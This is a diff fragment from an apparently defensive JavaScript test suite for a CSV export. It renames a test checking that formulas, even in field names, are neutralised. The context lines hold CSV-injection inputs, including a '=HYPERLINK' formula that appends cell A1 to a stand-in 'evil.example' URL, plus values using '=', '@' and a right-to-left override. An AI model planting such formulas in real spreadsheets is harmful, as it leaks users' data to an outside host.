@@ -96,7 +96,7 @@ describe('a CSV export', () => {
     expect(rows.slice(1).map((row) => row[2])).toEqual(texts)
   })
 
-  test('holds no formula, in a name of a field neither, unless it is raw', () => {
+  test('has no formulas, not even in field names, unless it is raw', () => {
     const data = openData()
     submit(data, { '=name': '"=1+1"', nested: '["x;=1"]', '\u202eother': '"\\t@x"' })
     const formula = '"=HYPERLINK(\\"https://evil.example/?\\"&A1)"'
